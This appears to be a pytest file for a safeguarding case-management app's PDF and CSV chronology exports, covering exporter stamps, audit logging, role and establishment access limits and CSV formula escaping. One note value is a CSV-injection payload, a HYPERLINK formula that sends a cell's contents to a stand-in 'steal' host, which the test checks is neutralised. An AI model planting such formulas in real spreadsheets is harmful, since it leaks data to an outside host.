"""A case's chronology as PDF and CSV: for those who answer for the work (lead, governor,
auditor), never beyond what they may read; every export on record before the file leaves;
every page saying who took it and when; a spreadsheet never runs what a note says."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from safeguarding.clock import FixedClock
from safeguarding.services import Services
from storage.models import AuditEvent, StaffUser
from tests.factories import submit
from tests.posters.pdf import normalise, pdf_text
from tests.triage.conftest import StaffFactory
from tests.triage.helpers import StaffLogin, csrf, page_at, signed_in_client

SAID = "He took my canteen again on Tuesday and said he would cut me"
FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1,"open")'


def case_with_notes(services: Services, client: FlaskClient, establishment: int, notes: int) -> int:
    report_id = submit(services, establishment, details=SAID).report_id
    token = csrf(client, f"/triage/reports/{report_id}")
    for number in range(notes):
        note = FORMULA if number == 0 else f"Note {number}: spoke to the wing officer. " * 6
        answer = client.post(
            f"/triage/reports/{report_id}/note", data={"csrf_token": token, "note_text": note}
        )
        assert answer.status_code == 302
    return report_id


def display_name(services: Services, login: StaffLogin) -> str:
    with services.db.transaction() as session:
        user = session.get(StaffUser, login.id)
        assert user is not None
        return user.display_name


def exports(services: Services, report_id: int) -> list[dict[str, object]]:
    with services.db.transaction() as session:
        details = session.scalars(
            select(AuditEvent.detail).where(
                AuditEvent.report_id == report_id, AuditEvent.action == "report.exported"
            )
        ).all()
    return [json.loads(detail or "{}") for detail in details]


def test_every_page_of_the_pdf_says_who_exported_it_and_when(
    lead_client: FlaskClient, lead: StaffLogin, services: Services, establishment: int
) -> None:
    report_id = case_with_notes(services, lead_client, establishment, notes=40)
    answer = lead_client.get(f"/triage/reports/{report_id}/chronology.pdf")
    assert answer.status_code == 200 and answer.mimetype == "application/pdf"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["Cache-Control"] == "no-store"
    pages = [normalise(page) for page in pdf_text(answer.data).split("\f") if page.strip()]
    assert len(pages) >= 2  # forty notes do not fit on one page: the stamp must repeat
    name = display_name(services, lead)
    for page in pages:
        assert f"Exported by {name} (Safeguarding lead) on " in page
        assert "OFFICIAL-SENSITIVE" in page
    whole = " ".join(pages)
    assert SAID in whole
    assert whole.index("Report received") < whole.index("Note 39")  # oldest first
    # The audit trail: the lead's reads of the case page, by name and account.
    trail = whole[whole.index("Who opened or changed it (the audit log)") :]
    assert f"{name} (staff:{lead.id}) report.viewed" in trail
    assert exports(services, report_id) == [{"format": "pdf"}]


def test_the_csv_names_its_exporter_lists_the_timeline_oldest_first_and_runs_no_formula(
    lead_client: FlaskClient, lead: StaffLogin, services: Services, establishment: int
) -> None:
    report_id = case_with_notes(services, lead_client, establishment, notes=2)
    answer = lead_client.get(f"/triage/reports/{report_id}/chronology.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert rows[0][0] == "case" and rows[0][1].endswith(f"-{report_id}")
    assert rows[1] == ["exported_by", f"{display_name(services, lead)} (Safeguarding lead)"]
    assert rows[2][0] == "exported_at_utc" and rows[2][1].startswith("20")
    assert rows[4] == ["at_utc", "event", "by", "what_happened", "words"]
    events = rows[5:]
    assert events[0][1] == "Report received"
    trail = events[events.index([]) + 1 :]
    events = events[: events.index([])]
    assert trail[0] == ["audit_at_utc", "actor", "action"]
    viewer = f"{display_name(services, lead)} (staff:{lead.id})"
    assert [viewer, "report.viewed"] in [row[1:] for row in trail[1:]]
    assert [row[2] for row in trail[1:]].count("report.exported") == 0  # this one: the stamp
    assert [row[4] for row in events if row[1] == "Note"] == [
        "'" + FORMULA,  # a spreadsheet shows it, never runs it
        ("Note 1: spoke to the wing officer. " * 6).strip(),
    ]
    assert exports(services, report_id) == [{"format": "csv"}]


def test_the_case_page_offers_the_download_to_those_who_may_take_it(
    app: Flask, services: Services, staff: StaffFactory, clock: FixedClock, establishment: int
) -> None:
    report_id = submit(services, establishment, details=SAID).report_id
    for role, offered in (("lead", True), ("governor", True), ("auditor", True), ("deputy", False)):
        client = signed_in_client(app, services, staff(role), clock)
        page = page_at(client, f"/triage/reports/{report_id}")
        assert page.has_id("chronology") is offered, role
        if offered:
            assert f"/triage/reports/{report_id}/chronology.pdf" in page.hrefs()


@pytest.mark.parametrize(
    ("role", "queue", "allowed"),
    [
        ("deputy", "general", False),  # works the case, but a copy leaving is not theirs
        ("auditor", "general", True),
        ("auditor", "restricted", False),  # never more than they may read
        ("governor", "restricted", True),
        ("admin", "general", False),
    ],
)
def test_only_those_who_answer_for_the_work_export_and_only_what_they_may_read(
    app: Flask, services: Services, staff: StaffFactory, clock: FixedClock, establishment: int,
    role: str, queue: str, allowed: bool,
) -> None:  # fmt: skip
    staff_involved = "yes" if queue == "restricted" else "no"
    report_id = submit(
        services, establishment, details=SAID, staff_involved=staff_involved
    ).report_id
    client = signed_in_client(app, services, staff(role), clock)
    for kind in ("pdf", "csv"):
        answer = client.get(f"/triage/reports/{report_id}/chronology.{kind}")
        assert (answer.status_code == 200) is allowed, (role, kind, answer.status_code)
        if not allowed:
            assert SAID.encode() not in answer.data
    assert len(exports(services, report_id)) == (2 if allowed else 0)
    if not allowed and role != "admin":  # an admin is stopped before any report is looked up
        with services.db.transaction() as session:
            refused = session.scalars(
                select(AuditEvent.detail).where(AuditEvent.action == "report.access_denied")
            ).all()
        assert {json.loads(d or "{}")["permission"] for d in refused} == {"export_case"}


def test_a_lead_of_another_establishment_gets_nothing(
    app: Flask, services: Services, staff: StaffFactory, clock: FixedClock, establishment: int,
    other_establishment: int,
) -> None:  # fmt: skip
    report_id = submit(services, establishment, details=SAID).report_id
    elsewhere = signed_in_client(app, services, staff("lead", [other_establishment]), clock)
    answer = elsewhere.get(f"/triage/reports/{report_id}/chronology.pdf")
    assert answer.status_code == 404
    assert exports(services, report_id) == []


def test_the_link_carries_no_words_of_the_report(
    lead_client: FlaskClient, services: Services, establishment: int
) -> None:
    report_id = submit(services, establishment, details=SAID).report_id
    page = page_at(lead_client, f"/triage/reports/{report_id}")
    links = [href for href in page.hrefs() if "chronology" in href]
    assert links == [
        f"/triage/reports/{report_id}/chronology.pdf",
        f"/triage/reports/{report_id}/chronology.csv",
    ]
